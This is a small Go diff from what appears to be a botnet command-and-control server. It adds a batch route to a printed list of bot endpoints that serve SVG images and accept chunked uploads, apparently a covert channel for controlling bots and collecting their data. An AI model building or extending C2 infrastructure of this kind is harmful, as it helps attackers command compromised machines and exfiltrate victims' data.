@@ -41,7 +41,7 @@ func run(args []string) error {
 	}
 	base := "http://" + ln.Addr().String()
 	fmt.Printf("C&C master listening on %s\n", base)
-	fmt.Println("routes: /meta/{bot}.svg  /img/{bot}/{id}/{seq}.svg  /up/{bot}/{stream}/{seq}/{chunk}")
+	fmt.Println("routes: /meta/{bot}.svg  /img/{bot}/{id}/{seq}.svg  /batch/{bot}/{id}/{from}/{count}.svg  /up/{bot}/{stream}/{seq}/{chunk}")
 
 	srv := &http.Server{Handler: m, ReadHeaderTimeout: 5 * time.Second}
 	if !*demo {
